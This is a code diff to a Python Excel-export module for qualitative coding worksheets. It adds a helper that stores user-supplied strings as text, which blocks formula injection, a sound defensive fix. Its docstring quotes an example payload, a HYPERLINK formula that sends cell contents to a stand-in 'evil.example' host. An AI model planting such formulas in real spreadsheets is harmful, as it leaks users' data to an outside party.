@@ -102,6 +102,17 @@ def header_values(d: CodingDraft) -> dict[str, object]:
             "consensus": "yes" if d.consensus else "no", "codebook": f"{d.codebook_id} {d.codebook_version}"}
 
 
+def put(ws, row: int, col: int, value: object):
+    """Write a cell; text is always stored as text. openpyxl takes any string starting with '=' as a formula,
+    so an id such as `=HYPERLINK("http://evil.example/?"&A1,"open")` would become a live formula in the
+    coder's Excel: every value that came from a user goes through here."""
+    cell = ws.cell(row, col)
+    cell.value = value
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
+
+
 def _validation(ws, kind: str, cells: str | list[str], error: str, prompt: str) -> DataValidation:
     if kind == "sign":
         dv = DataValidation(type="list", formula1=f'"{SIGNS["check"]},{SIGNS["check_minus"]}"', allow_blank=True)
@@ -125,7 +136,7 @@ def _header(ws, d: CodingDraft) -> None:
     for i, (fld, label, required) in enumerate(HEADER_FIELDS):
         row = HEADER_ROW + i
         ws.cell(row, 1, label + (" *" if required else "")).font = BOLD if required else Font()
-        cell = ws.cell(row, 2, values[fld])
+        cell = put(ws, row, 2, values[fld])
         cell.border = BOX
         if fld == "session_date":
             cell.number_format = "yyyy-mm-dd"
@@ -176,7 +187,7 @@ def _grid(ws, d: CodingDraft, lay: Layout) -> None:
         for code in book.codes:
             cell = ws.cell(row, lay.code_col(code.key), SIGNS.get(d.marks.get((seg, code.key), ""), None))
             cell.border, cell.alignment = BOX, CENTER
-        ws.cell(row, lay.note_col, d.segment_notes.get(seg)).border = BOX
+        put(ws, row, lay.note_col, d.segment_notes.get(seg)).border = BOX
     first, last = get_column_letter(FIRST_CODE_COL), get_column_letter(lay.note_col - 1)
     _validation(ws, "sign", f"{first}{lay.first_segment_row}:{last}{lay.significance_row - 1}",
                 "Use ✓ (meets criteria) or ✓- (unclear), or leave the cell blank.", "✓ or ✓- or blank")
